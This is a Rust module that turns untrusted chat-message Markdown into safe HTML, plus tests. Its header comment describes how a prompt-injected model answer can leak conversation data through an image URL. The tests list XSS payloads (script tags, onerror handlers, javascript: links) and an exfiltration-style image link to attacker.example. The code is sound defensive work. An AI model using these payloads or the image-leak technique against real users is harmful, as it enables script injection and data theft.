//! Message text as Markdown, rendered to HTML that is safe to insert: message
//! content is untrusted (a prompt can contain anything a user or a web page
//! typed, and an answer anything a prompt injection made the model write).
//! Raw HTML is shown as text; links whose target is not http(s), mailto or a
//! relative path keep their text but lose the target; an image is shown only
//! when it is inline raster data. Any other image is a placeholder naming its
//! host, loaded only when clicked (`data-remote-src`, read by the view): an
//! image address in an answer is the classic way an injected prompt sends
//! what the conversation holds to an attacker's server, the moment it is
//! shown. Blocks and inlines nested deeper than [`MAX_NESTING`] keep their
//! text but lose their tags, with a note.

use std::cell::Cell;

use pulldown_cmark::{Alignment, CowStr, Event, Options, Parser, Tag, TagEnd, html};
use pulldown_cmark_escape::escape_html;

use super::media::web_host;

/// How deep blocks and inlines nest before their tags are dropped: real
/// messages nest a few levels, and each level is an element the browser
/// lays out (100,000 nested quotes took Chromium seconds).
pub const MAX_NESTING: usize = 32;

/// Safe HTML for `markdown`.
pub fn to_safe_html(markdown: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let flattened = Cell::new(false);
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        // Raw HTML becomes literal text, escaped by the HTML writer.
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Link {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        // The writer aligns columns with style attributes, which the page's
        // Content-Security-Policy refuses: tables keep their default alignment.
        Event::Start(Tag::Table(alignments)) => {
            Event::Start(Tag::Table(vec![Alignment::None; alignments.len()]))
        }
        other => other,
    });
    let events = Flatten {
        events,
        depth: 0,
        flattened: &flattened,
    };
    let events = ImagePlaceholders { events };
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, events);
    if flattened.get() {
        out.push_str(&format!(
            "<p class=\"sl-muted\">Blocks nested deeper than {MAX_NESTING} levels are shown flat.</p>\n"
        ));
    }
    out
}

/// Drops the tags of blocks and inlines deeper than [`MAX_NESTING`],
/// keeping what they hold. Events nest properly, so a start and its end are
/// at the same depth.
struct Flatten<'a, I> {
    events: I,
    depth: usize,
    flattened: &'a Cell<bool>,
}

impl<'a, 'b, I: Iterator<Item = Event<'a>>> Iterator for Flatten<'b, I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        loop {
            let event = self.events.next()?;
            let deep = match &event {
                Event::Start(_) => {
                    self.depth += 1;
                    self.depth > MAX_NESTING
                }
                Event::End(_) => {
                    self.depth = self.depth.saturating_sub(1);
                    self.depth >= MAX_NESTING
                }
                _ => false,
            };
            if !deep {
                return Some(event);
            }
            self.flattened.set(true);
        }
    }
}

/// Shows inline raster images, and a placeholder for every other image.
struct ImagePlaceholders<I> {
    events: I,
}

impl<'a, I: Iterator<Item = Event<'a>>> Iterator for ImagePlaceholders<I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        match self.events.next()? {
            Event::Start(Tag::Image { dest_url, .. }) if !is_inline_image(&dest_url) => {
                let alt = self.alt_text();
                Some(Event::InlineHtml(placeholder(&dest_url, &alt).into()))
            }
            other => Some(other),
        }
    }
}

impl<'a, I: Iterator<Item = Event<'a>>> ImagePlaceholders<I> {
    /// The text of an image's description, up to its end.
    fn alt_text(&mut self) -> String {
        let mut alt = String::new();
        let mut nested = 0usize;
        for event in self.events.by_ref() {
            match event {
                Event::Start(Tag::Image { .. }) => nested += 1,
                Event::End(TagEnd::Image) if nested == 0 => break,
                Event::End(TagEnd::Image) => nested -= 1,
                Event::Text(text) | Event::Code(text) => alt.push_str(&text),
                _ => {}
            }
        }
        alt
    }
}

/// `data:image/…` of a type that cannot run scripts. The address must say
/// `data:image/` as it is written (the browser reads it so): control
/// characters inside it are not dropped to make it one. They are dropped to
/// look for SVG, which is refused however it is spelt.
fn is_inline_image(url: &str) -> bool {
    let written = url
        .trim()
        .get(.."data:image/".len())
        .is_some_and(|head| head.eq_ignore_ascii_case("data:image/"));
    written && !compact_lowercase(url).starts_with("data:image/svg")
}

/// A button that loads an `http(s):` image when clicked, or a note for an
/// image whose address cannot be loaded from here.
fn placeholder(url: &str, alt: &str) -> String {
    let mut html = String::new();
    // Writing to a String cannot fail.
    let text = |html: &mut String, text: &str| {
        let _ = escape_html(html, text);
    };
    match web_host(url) {
        Some(host) => {
            html.push_str(r#"<button type="button" class="sl-remote-image" data-remote-src=""#);
            text(&mut html, url);
            html.push_str(r#"" title="Loading it tells "#);
            text(&mut html, host);
            html.push_str(r#" that this is being read">Image from "#);
            text(&mut html, host);
        }
        None => html.push_str(r#"<span class="sl-remote-image sl-remote-image--blocked">Image"#),
    }
    if !alt.trim().is_empty() {
        text(&mut html, ": ");
        text(&mut html, alt.trim());
    }
    html.push_str(match web_host(url) {
        Some(_) => " (click to load)</button>",
        None => " (not shown: its address is not a web address)</span>",
    });
    html
}

/// The URL without control characters and spaces, lower case: browsers
/// ignore those inside a scheme ("java\tscript:").
fn compact_lowercase(url: &str) -> String {
    url.chars()
        .filter(|c| !c.is_control() && !c.is_whitespace())
        .collect::<String>()
        .to_ascii_lowercase()
}

/// The URL when its scheme is harmless, else an empty target.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let compact = compact_lowercase(&url);
    let scheme = compact.split_once(':').map(|(scheme, _)| scheme);
    let allowed = match scheme {
        // No scheme, or the colon is after a path or query: relative.
        None => true,
        Some(scheme) if scheme.contains(['/', '?', '#']) => true,
        Some("http" | "https" | "mailto") => true,
        Some(_) => false,
    };
    if allowed { url } else { CowStr::Borrowed("") }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_renders() {
        assert_eq!(
            to_safe_html("**bold** and `code`"),
            "<p><strong>bold</strong> and <code>code</code></p>\n"
        );
        assert!(
            to_safe_html("```rust\nfn main() {}\n```")
                .contains("<pre><code class=\"language-rust\">fn main() {}")
        );
        assert!(
            to_safe_html("[docs](https://opentelemetry.io)")
                .contains("href=\"https://opentelemetry.io\"")
        );
    }

    #[test]
    fn the_xss_battery_renders_inert() {
        let cases = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=\"https://evil\"></iframe>",
            "<div onclick=\"alert(1)\">hi</div>",
            "[x]: javascript:alert(1)\n\n[link][x]",
            "<svg><script>alert(1)</script></svg>",
        ];
        for case in cases {
            let html = to_safe_html(case);
            let lower = html.to_ascii_lowercase();
            assert!(!lower.contains("<script"), "{case} → {html}");
            assert!(!lower.contains("<img src=\"x\""), "{case} → {html}");
            assert!(!lower.contains("<iframe"), "{case} → {html}");
            assert!(!lower.contains("<div"), "{case} → {html}");
            assert!(!lower.contains("<svg"), "{case} → {html}");
            // Real tags only: escaped text may quote anything.
            for forbidden in [
                "<a href=\"java",
                "<a href=\"vbscript",
                "<a href=\"data:text",
                "<img src=\"java",
                "<img src=\"data:image/svg",
            ] {
                assert!(!lower.contains(forbidden), "{case} → {html}");
            }
        }
        // The raw HTML is still shown, as text.
        assert!(
            to_safe_html("<script>alert(1)</script>")
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;")
        );
        // Safe images and relative links survive.
        assert!(
            to_safe_html("![chart](data:image/png;base64,iVBORw0KGgo=)")
                .contains("src=\"data:image/png;base64,")
        );
        assert!(to_safe_html("[next](./page#part)").contains("href=\"./page#part\""));
    }

    #[test]
    fn remote_images_are_placeholders_naming_their_host() {
        let html = to_safe_html("Done. ![the chart](https://attacker.example/log?d=secret%20data)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains(r#"<button type="button" class="sl-remote-image" data-remote-src="https://attacker.example/log?d=secret%20data""#),
            "{html}"
        );
        assert!(
            html.contains(">Image from attacker.example: the chart (click to load)</button>"),
            "{html}"
        );
        // Quotes in the address or the description cannot leave the attribute.
        let html = to_safe_html(r#"![a "b" <c>](https://h.example/x"onerror="alert(1))"#);
        assert!(!html.contains(r#"x"onerror"#), "{html}");
        assert!(html.contains("a &quot;b&quot; &lt;c&gt;"), "{html}");
        // Relative and other addresses are not loaded at all.
        for markdown in [
            "![logo](logo.png)",
            "![x](//evil.example/a.png)",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        ] {
            let html = to_safe_html(markdown);
            assert!(
                !html.contains("<img") && !html.contains("data-remote-src"),
                "{markdown} → {html}"
            );
            assert!(
                html.contains("(not shown: its address is not a web address)"),
                "{markdown} → {html}"
            );
        }
        // A reference-style image is the same image.
        let html = to_safe_html("![x][pic]\n\n[pic]: https://cdn.example/p.png");
        assert!(
            html.contains(r#"data-remote-src="https://cdn.example/p.png""#),
            "{html}"
        );
    }

    #[test]
    fn nesting_100000_levels_deep_is_shown_flat() {
        for (open, text) in [("> ", "quoted"), ("- ", "listed"), ("* ", "starred")] {
            let markdown = format!("{}{text}", open.repeat(100_000));
            let html = to_safe_html(&markdown);
            assert!(html.contains(text), "{open:?}");
            assert!(
                html.matches("<blockquote>").count() + html.matches("<ul>").count() <= MAX_NESTING,
                "{open:?}"
            );
            assert!(
                html.ends_with("Blocks nested deeper than 32 levels are shown flat.</p>\n"),
                "{open:?}"
            );
        }
        let shallow = to_safe_html("> > a\n\n- b\n  - c");
        assert!(!shallow.contains("shown flat"), "{shallow}");
        let emphasis = format!("{}x{}", "*".repeat(100_000), "*".repeat(100_000));
        assert!(to_safe_html(&emphasis).contains('x'));
        let brackets = format!("{}x{}", "[".repeat(100_000), "]".repeat(100_000));
        assert!(to_safe_html(&brackets).contains('x'));
    }

    #[test]
    fn an_image_address_is_inline_only_as_it_is_written() {
        // Found by fuzzing: control characters inside "data:image/" were
        // dropped to decide, and the address written with them.
        let html = to_safe_html("![x](data:i\u{7f}\u{7f}mage/png;base64,iVBORw0KGgo=)");
        assert!(!html.contains("<img"), "{html}");
        let html = to_safe_html("![x]( DATA:Image/png;base64,iVBORw0KGgo=)");
        assert!(html.contains("<img src=\"DATA:Image/png;base64,"), "{html}");
        let html = to_safe_html("![x](data:image/s\u{7f}vg+xml;base64,PHN2Zz4=)");
        assert!(!html.contains("<img"), "{html}");
    }

    #[test]
    fn tables_have_no_style_attributes() {
        let html = to_safe_html("| a | b |\n|:--|--:|\n| 1 | 2 |");
        assert!(
            html.contains("<table>") && html.contains("<td>2</td>"),
            "{html}"
        );
        assert!(!html.contains("style="), "{html}");
    }
}
